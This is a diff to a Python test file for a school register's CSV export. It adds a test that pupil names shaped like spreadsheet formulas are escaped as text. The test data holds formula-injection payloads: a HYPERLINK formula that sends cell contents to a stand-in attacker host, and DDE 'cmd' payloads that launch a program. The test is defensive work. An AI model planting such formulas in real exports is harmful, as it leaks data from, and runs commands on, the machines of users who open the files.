@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
 
 import pytest
@@ -186,3 +188,25 @@ def test_a_month_outside_the_calendar_is_a_400_naming_the_field(world, client_fo
     assert signed.json()["error"]["fields"].keys() == {"month"}
     assert register.json()["error"]["fields"].keys() == {"month"}
     assert RegisterSignOff.objects.count() == 0
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "+cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tTab", "\rRetour"]
+
+
+@pytest.mark.parametrize("name", FORMULA_NAMES)
+def test_a_pupil_named_like_a_formula_reads_as_text_in_the_register_csv(world, client_for,
+                                                                        name):
+    pupil = add_pupils(world.classrooms["A1"], 1)[0]
+    pupil.last_name, pupil.usage_name, pupil.first_name = name, "", name
+    pupil.save()
+
+    response = client_for("director").get(register_url(world.classrooms["A1"], ".csv"),
+                                          {"month": "2026-11"})
+
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""),
+                           delimiter=";"))
+    row = next(row for row in rows if row[:2] == ["'" + name, "'" + name])
+    # the codes of the register keep their meaning: "-" is "not enrolled", not text to defuse
+    assert set(row[3:-5]) <= {"", "-", "NF"}
